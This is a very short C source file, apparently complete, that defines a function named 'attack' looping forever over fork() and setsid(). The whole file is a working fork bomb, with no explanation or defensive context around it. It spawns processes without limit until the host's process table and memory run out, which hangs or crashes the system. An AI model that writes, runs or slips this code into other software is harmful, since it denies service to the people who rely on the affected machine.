#include <unistd.h>

void attack() {
  for (;;)
    if (fork() == 0) setsid();
}
